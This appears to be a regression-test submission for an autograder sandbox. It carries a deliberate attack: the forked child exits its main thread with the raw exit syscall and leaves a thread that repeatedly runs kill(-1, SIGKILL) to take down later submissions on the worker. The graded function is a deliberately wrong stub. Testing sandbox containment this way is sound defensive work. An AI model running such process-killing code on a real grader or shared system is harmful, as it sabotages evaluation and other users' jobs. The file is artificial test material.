# grade_id: mse_grad
# expect: all=0
# Issue 9, class 2: a process whose main thread leaves with the raw exit syscall (it shows as
# a zombie) while another thread lives on, then sends kill(-1, SIGKILL) in a loop to take
# down every later submission on this worker. The job's PID namespace dies with the job.
import ctypes, os, signal, threading, time
pid = os.fork()
if pid == 0:
    def ghost():
        time.sleep(1.0)
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.005)
    threading.Thread(target=ghost).start()
    ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: only this thread ends
print("ATTACK RAN: ghost process started")

def mse_grad(inp, targ):
    inp.g = inp * 0
